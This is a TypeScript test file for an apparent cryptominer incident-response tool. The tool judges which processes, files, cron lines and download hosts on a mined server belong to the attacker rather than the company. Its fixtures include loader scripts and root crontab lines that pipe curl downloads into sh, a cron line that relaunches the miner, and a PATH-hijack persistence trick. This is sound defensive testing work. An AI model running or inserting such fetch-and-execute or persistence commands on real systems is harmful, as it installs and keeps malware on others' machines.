import { describe, expect, it } from 'vitest';
import { labContext } from '../../../test/shared/infected-snapshot.ts';
import { cleanSnapshot, elf, file, hashOf, process } from '../../../test/shared/snapshots.ts';
import type { Snapshot } from '../../snapshot.ts';
import type { JudgeContext } from '../index.ts';
import { judge } from '../index.ts';
import { crontabOfRoot, lineOfRoot, MINING, minedHost, minerImage, ticked } from '../mined-host.fixture.ts';

const tickedDownloads = (snapshot: Snapshot, context: JudgeContext = labContext) =>
  judge(snapshot, context)
    .links.downloads.filter((link) => link.selected)
    .map(({ host }) => host);
const image = minerImage('/tmp/m');
const miner = { exe: '/tmp/m' };

describe('what the attacker borrows of the company is not his', () => {
  it('a server of its own networks, in his script: the company’s line and the address stay', () => {
    const loader = file(
      '/tmp/i.sh',
      '#!/bin/sh\n/tmp/m &\ncurl -s http://192.0.2.80/deploy.sh | sh\ncurl -s http://203.0.113.9/x | sh\n',
    );
    const cronFiles = crontabOfRoot(
      '@daily sh /tmp/i.sh',
      '*/5 * * * * curl -fsSL http://192.0.2.80/deploy.sh | sh',
    );
    const snapshot = minedHost(miner, { files: [image, loader], cronFiles });
    expect(ticked(snapshot).starters).toEqual([lineOfRoot(1)]);
    expect(tickedDownloads(snapshot)).toEqual(['203.0.113.9']);
  });

  it('a server that the operator lists', () => {
    const loader = file('/tmp/i.sh', '#!/bin/sh\n/tmp/m &\ncurl -s http://198.51.100.80/deploy.sh | sh\n');
    const cronFiles = crontabOfRoot(
      '@daily sh /tmp/i.sh',
      '@hourly curl -fsSL http://198.51.100.80/deploy.sh | sh',
    );
    const snapshot = minedHost(miner, { files: [image, loader], cronFiles });
    const context = { ...labContext, ownAddresses: ['198.51.100.80'] };
    expect(ticked(snapshot, context).starters).toEqual([lineOfRoot(1)]);
    expect(tickedDownloads(snapshot, context)).toEqual([]);
  });

  it('a mirror from which somebody downloads at the moment', () => {
    const loader = file('/tmp/.x/i.sh', '#!/bin/sh\n/tmp/m &\ncurl -s https://mirror.example/x.sh | sh\n');
    const download = process({
      pid: 801,
      exe: '/usr/bin/curl',
      argv: ['curl', '-O', 'https://mirror.example/big.iso'],
    });
    const cronFiles = crontabOfRoot('* * * * * pgrep -f /tmp/m || sh /tmp/.x/i.sh');
    expect(
      ticked(minedHost(miner, { processes: [download], files: [image, loader], cronFiles })).processes,
    ).toEqual([900]);
  });

  it.each(['/system.slice/docker-abc.scope', '/system.slice/x.service'])(
    'the path of its program, in another root (%s): neither file, process nor cron line of it',
    (cgroup) => {
      const other = { device: '77', inode: '5', package: null, sha256: hashOf('the miner') };
      const snapshot = minedHost(
        { exe: '/opt/shop/sync', cgroup, image: other },
        {
          processes: [process({ pid: 701, exe: '/opt/shop/sync' })],
          files: [elf('/opt/shop/sync')],
          cronFiles: crontabOfRoot('*/5 * * * * /opt/shop/sync --all'),
        },
      );
      expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
      expect(tickedDownloads(snapshot)).toEqual([]);
    },
  );

  it('the name of its script among his arguments: not what starts it, also where it starts something', () => {
    const python = { exe: '/usr/bin/python3.11' };
    const argv = ['python3', '/srv/app/app.py'];
    const app = file(
      '/srv/app/app.py',
      '#!/usr/bin/env python3\nimport os\nos.system("/opt/shop/convert x")\n',
    );
    const snapshot = minedHost(
      { ...python, argv: [...argv, ...MINING] },
      {
        processes: [process({ pid: 700, ...python, argv })],
        files: [app],
        cronFiles: crontabOfRoot('@reboot python3 /srv/app/app.py'),
      },
    );
    expect(ticked(snapshot)).toEqual({ processes: [900], files: [], starters: [] });
    expect(tickedDownloads(snapshot)).toEqual([]);
  });

  it('a line of its crontab, by a PATH above it: the line starts the company’s own program too', () => {
    const snapshot = minedHost(
      { exe: '/tmp/.x/backup' },
      {
        files: [minerImage('/tmp/.x/backup'), elf('/usr/local/bin/backup')],
        cronFiles: crontabOfRoot(
          'PATH=/tmp/.x:/usr/local/bin:/usr/bin',
          '0 2 * * * backup --all',
          '@daily x',
        ),
      },
    );
    expect(ticked(snapshot)).toMatchObject({ files: ['/tmp/.x/backup'], starters: [] });
    const alone = { ...snapshot, files: [minerImage('/tmp/.x/backup')] };
    expect(ticked(alone)).toMatchObject({ starters: [lineOfRoot(2)] });
  });

  it('a running backup to whose line he added: the shell that has it at work stays', () => {
    const command = 'tar czf /backup/x.tgz /srv & /tmp/m';
    const shell = process({ pid: 880, ppid: 300, exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', command] });
    const tar = process({ pid: 881, ppid: 880, exe: '/usr/bin/tar', argv: ['tar', 'czf', '/backup/x.tgz'] });
    const of = (...processes: ReturnType<typeof process>[]) =>
      judge(
        minedHost(
          { exe: '/tmp/m', ppid: 880 },
          { processes, files: [image], cronFiles: crontabOfRoot(`0 3 * * * ${command}`) },
        ),
        labContext,
      ).links;
    const selected = (links: ReturnType<typeof of>) =>
      links.processes.filter((p) => p.selected).map((p) => p.pid);
    expect(selected(of(shell, tar))).toEqual([900]);
    expect(of(shell, tar).covered).toEqual([]);
    expect(selected(of(shell))).toEqual([880, 900]);
  });

  it('data that a line of its gets from a bare address and gives to a program: nothing of it is a starter', () => {
    const json = `python3 -c 'import json,sys; print(json.load(sys.stdin)["usd"])' > /srv/rates`;
    const cronFiles = crontabOfRoot(`*/5 * * * * curl -s http://203.0.113.77/rates.json | ${json}`);
    expect(judge(minedHost(miner, { files: [image], cronFiles }), labContext).links.cronLines).toEqual([]);
  });
});

it('a chain of thousands of parents is weighed like any other', () => {
  const clean = cleanSnapshot();
  const chain = Array.from({ length: 12_000 }, (_, i) =>
    process({ pid: 10_000 + i, ppid: i < 11_999 ? 10_001 + i : 1, exe: `/opt/x/${i}` }),
  );
  expect(
    judge(cleanSnapshot({ processes: [...clean.processes, ...chain] }), labContext).verdict.verdict,
  ).toBe('not-a-miner');
});
